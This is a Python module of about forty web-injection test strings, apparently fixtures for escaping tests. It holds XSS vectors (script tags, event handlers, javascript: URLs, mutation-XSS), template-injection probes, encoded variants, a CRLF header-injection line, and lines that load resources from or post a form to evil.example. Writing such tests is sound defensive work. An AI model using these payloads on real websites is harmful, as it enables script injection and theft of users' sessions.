"""Words that try to become markup, script, an attribute, an address, or a line of a header."""

from __future__ import annotations

from typing import Final

MARK: Final = "pwned"
"""What every payload would call; nothing of ours has that name."""

PAYLOADS: Final = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</ScRiPt ><ScRiPt>pwned()</sCrIpT>",
    "<!--<script>pwned()",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()//",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data='javascript:pwned()'>",
    "<embed src='javascript:pwned()'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example/'><button>x</button></form>",
    "<a href='javascript:pwned()'>x</a>",
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    "` onmouseover=pwned() `",
    "</title><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</bdi></a></h1></main><script>pwned()</script>",
    "{{ pwned() }}{% raw %}{{ ''.__class__ }}",
    "${pwned()}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\u2028pwned()\u2029//",
    "javascript:pwned()",
    "JaVaScRiPt\t:pwned()//https://",
    "data:text/html,<script>pwned()</script>",
    "\u202e)(denwp<tpircs>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned()</script>",
)
